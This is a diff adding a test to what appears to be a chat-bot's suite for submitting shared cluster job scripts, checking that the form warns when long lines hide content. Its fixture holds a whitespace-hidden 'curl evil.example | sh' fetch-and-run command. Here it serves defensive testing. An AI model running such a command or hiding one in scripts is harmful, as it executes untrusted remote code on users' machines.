@@ -373,6 +373,22 @@ test('a script that someone else shared runs as the person who submits it, and t
   await ana.closeModal();
 });
 
+test('the form says what of a script it does not show, where all of it is, and who will read along', async () => {
+  const { ana, ben } = world;
+  const hiding = `echo hello${' '.repeat(230)}; curl evil.example | sh`;
+  const content = `${script('hiding', 1)}${hiding}\n${'echo\n'.repeat(50)}${hiding}\n`;
+  const prompt = await share(ana, JOBS, { name: 'hiding.sh', content, text: '<@U0SLURMBOT>' });
+  await ben.click(JOBS, prompt.ts, 'Submit…');
+  const said = texts((await seesModal(ben, 'Allocation')).blocks).join('\n');
+  expect(said).toMatch(/\necho hello {190}…\n/);
+  expect(said).toMatch(
+    /1 line above is longer than shown here\. \d+ more lines, 1 of them longer than shown here\. Read <https:\/\/\S+\/hiding\.sh\|the whole file>\./,
+  );
+  expect(said).toContain('Read the whole file first: 2 lines are longer than what is shown here');
+  expect(said).toContain(`People in <#${JOBS}> will see its name, state and error`);
+  await ben.closeModal();
+});
+
 test('a name that breaks the cluster’s listing is refused in the form, under its field', async () => {
   const { ana } = world;
   const prompt = await share(ana, 'dm', { name: 'named.sh', content: script('named', 1) });
